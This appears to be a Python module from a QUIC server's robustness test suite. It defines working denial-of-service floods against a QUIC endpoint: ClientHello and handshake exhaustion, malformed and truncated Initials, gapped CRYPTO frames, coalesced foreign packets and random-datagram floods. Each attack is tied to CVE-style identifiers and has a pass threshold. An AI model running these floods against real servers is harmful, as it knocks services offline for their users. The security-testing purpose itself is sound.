"""Floods of handshakes, of packets without a connection, and of packets that are none."""

import os
import socket
import struct
import time

from aioquic import tls
from aioquic.quic.crypto import CryptoPair
from attack import Attack
from flooder import ADDRESS, Flooder
from peer import Peer, crypto, varint

VERSION = 1
TOKEN_TAG = 16


def client_hello(url):
    """The bytes of a ClientHello, and the connection id that is in it."""
    peer = Peer(url, ready=False)
    # Sent but not acknowledged: it is still there.
    sender = peer.quic._crypto_streams[tls.Epoch.INITIAL].sender
    hello = bytes(sender._buffer)
    cid = peer.quic._host_cids[0].cid
    peer.socket.close()
    return hello, cid


def initial(frames, dcid, scid, token=b"", number=0, size=1200):
    keys = CryptoPair()
    keys.setup_initial(cid=dcid, is_client=True, version=VERSION)
    header = b"\xc3" + VERSION.to_bytes(4, "big")
    for cid in (dcid, scid):
        header += bytes([len(cid)]) + cid
    header += varint(len(token)) + token
    frames += bytes(max(0, size - len(header) - 2 - 4 - 16 - len(frames)))
    header += (0x4000 | 4 + len(frames) + 16).to_bytes(2, "big") + number.to_bytes(4, "big")
    return keys.send.encrypt_packet(header, frames, number)


def retry(packet):
    """The new connection id and the token of a Retry packet, or None."""
    if packet[0] & 0xF0 != 0xF0:
        return None
    at = 6 + packet[5]
    end = at + 1 + packet[at]
    return packet[at + 1:end], packet[end:-TOKEN_TAG]


class Socket:
    """A UDP socket that never waits."""

    def __init__(self, url):
        host, port = url.removeprefix("https://").rsplit(":", 1)
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        self.socket.bind((ADDRESS, 0))
        self.socket.connect((host, int(port)))
        self.socket.setblocking(False)
        self.sent = self.came = 0

    def send(self, packet):
        try:
            self.sent += self.socket.send(packet)
        except OSError:
            pass

    def packets(self):
        """What has come."""
        try:
            while True:
                packet = self.socket.recv(65536)
                self.came += len(packet)
                yield packet
        except OSError:
            return


def initials(ports=200, answer_retry=False, rate=None, twice=False):
    """ClientHellos of clients that then say nothing more, or only prove their address."""

    def act(url, until):
        hello, cid = client_hello(url)
        hello = crypto(0, hello)
        sockets = [Socket(url) for _ in range(ports)]
        count = proven = 0
        start = time.monotonic()
        while time.monotonic() < until:
            if rate is not None and count > rate * (time.monotonic() - start):
                time.sleep(0.0005)
            else:
                packet = initial(hello, os.urandom(8), cid)
                for _ in range(1 + twice):
                    sockets[count % ports].send(packet)
                count += 1
            for packet in sockets[count % ports].packets():
                found = retry(packet)
                if answer_retry and found is not None:
                    for _ in range(1 + twice):
                        sockets[count % ports].send(initial(hello, found[0], cid, found[1], 1))
                    proven += 1
        sent, came = (sum(getattr(socket, name) for socket in sockets) for name in ("sent", "came"))
        return {"initials": count, "proven": proven, "amplification": came / sent}

    return act


def lockout(url, until):
    """New clients from another address, while one address begins handshakes and ends none: their times in ms."""
    child = os.fork()
    if child == 0:
        try:
            initials(ports=1, answer_retry=True, rate=1500)(url, until)
        finally:
            os._exit(0)
    times = []
    try:
        while time.monotonic() < until:
            begun = time.monotonic()
            peer = Peer(url, ready=False)
            peer.wait("the connection", lambda: peer.is_ready() or time.monotonic() > until)
            # That of one that waits until the end is a lower bound.
            times.append(round(1000 * (time.monotonic() - begun)))
            if peer.is_ready():
                peer.close()
            else:
                peer.socket.close()
    finally:
        os.waitpid(child, 0)
    times.sort()
    return {"clients": len(times), "slowest": times[-1], "median": times[len(times) // 2]}


def crypto_gaps(url, until):
    """Initials with CRYPTO frames of one byte with gaps; the first byte never comes."""
    connections = 0
    while time.monotonic() < until:
        socket_, dcid, scid = Socket(url), os.urandom(8), os.urandom(8)
        offset = 2
        for number in range(300):
            frames = b""
            while len(frames) < 1080 and offset < 65_000:
                frames += crypto(offset, b"x")
                offset += 2
            if not frames or time.monotonic() > until:
                break
            socket_.send(initial(frames, dcid, scid, number=number))
        connections += 1
    return {"half open": connections}


def malformed(url, until):
    """Initials with any one byte of their header changed, any length."""
    hello, cid = client_hello(url)
    hello = crypto(0, hello)
    sender = Socket(url)
    while time.monotonic() < until:
        packet = initial(hello, os.urandom(8), cid, token=os.urandom(20))
        for at in range(60):
            changed = bytearray(packet)
            changed[at] ^= 1 << os.urandom(1)[0] % 8
            sender.send(changed)
            sender.send(packet[:at])
        for _ in sender.packets():
            pass
    return {"amplification": sender.came / sender.sent}


def coalesced(url, until):
    """An Initial in front of packets for other connections (RFC 9000 section 12.2)."""
    hello, cid = client_hello(url)
    hello = crypto(0, hello)
    sender = Socket(url)
    foreign = b"\xe3\0\0\0\1\x08" + bytes(8) + b"\x08" + bytes(8) + varint(20) + bytes(20)
    while time.monotonic() < until:
        sender.send(initial(hello, os.urandom(8), cid) + foreign * 30)
        for _ in sender.packets():
            pass
    return {"amplification": sender.came / sender.sent}


def datagrams(make):
    """UDP datagrams of which no connection comes."""

    def act(url, until):
        sender = Socket(url)
        while time.monotonic() < until:
            for _ in range(32):
                sender.send(make())
            for _ in sender.packets():
                pass
        return {"amplification": sender.came / max(sender.sent, 1)}

    return act


def unknown_version():
    return (b"\xc0" + struct.pack(">I", 0x1A2A3A4A) + b"\xff" + bytes(255) + b"\xff" + bytes(255) + bytes(700))[:1250]


def version_negotiation():
    return b"\xc0" + bytes(4) + b"\x08" + bytes(8) + b"\x08" + bytes(8) + b"\x0a\x0a\x0a\x0a" * 300


def opened_and_left(url, until):
    """Connections that are opened, ask for something and are left without a word."""
    count = 0
    while time.monotonic() < until:
        peer = Flooder(url)
        peer.put(peer.open(b"\x01\x40"))
        peer.socket.close()
        count += 1
    return {"connections": count}


AT_MOST_THREE = {"amplification": lambda factor: factor <= 3}
NOTHING_GAINED = {"amplification": lambda factor: factor < 1}

ATTACKS = [
    Attack(
        "initials", "a ClientHello from one port after the other (CVE-2026-14456)", initials(), found=AT_MOST_THREE,
        memory=24,
    ),
    Attack(
        "initials-without-retry", "the same, and the server sends no Retry", initials(), server=("--retry", "off"),
        found=AT_MOST_THREE, memory=150,
    ),
    Attack(
        "initials-twice", "each Initial twice, also those that answer Retry (CVE-2024-45311)",
        initials(answer_retry=True, twice=True), found=AT_MOST_THREE, memory=150,
    ),
    Attack(
        "handshakes-unfinished", "handshakes that answer Retry and go no further", initials(answer_retry=True),
        found=AT_MOST_THREE, memory=150, quick=False,
    ),
    Attack(
        "lockout", "the same from one address, while another asks to be served", lockout, seconds=10, memory=220,
        found={"slowest": lambda ms: ms <= 1000}, quick=False,
    ),
    Attack(
        "crypto-gaps-in-initials", "CRYPTO frames of one byte with gaps in Initials (RUSTSEC-2026-0185)", crypto_gaps,
        quick=False,
    ),
    Attack("malformed-initials", "Initials with a changed or a missing byte (CVE-2026-26081)", malformed, memory=150),
    Attack(
        "coalesced", "an Initial and 30 packets of other connections in each datagram (CVE-2025-54939)", coalesced,
        found=AT_MOST_THREE, memory=24,
    ),
    Attack("unknown-version", "packets of an unknown version", datagrams(unknown_version), found=NOTHING_GAINED),
    Attack(
        "version-negotiation", "Version Negotiation packets to the server", datagrams(version_negotiation),
        found={"amplification": 0},
    ),
    Attack("tiny-datagrams", "datagrams of 0 to 20 random bytes (CVE-2026-11352)",
           datagrams(lambda: os.urandom(os.urandom(1)[0] % 21)), found={"amplification": 0}),
    Attack(
        "unknown-connection", "1-RTT packets of no connection, which stateless resets answer",
        datagrams(lambda: b"\x40" + os.urandom(1100)), found=NOTHING_GAINED,
    ),
    Attack(
        "opened-and-left", "connections that are left without a word", opened_and_left,
        # 39 KiB for each of those that it opens in the time.
        memory=100,
    ),
]
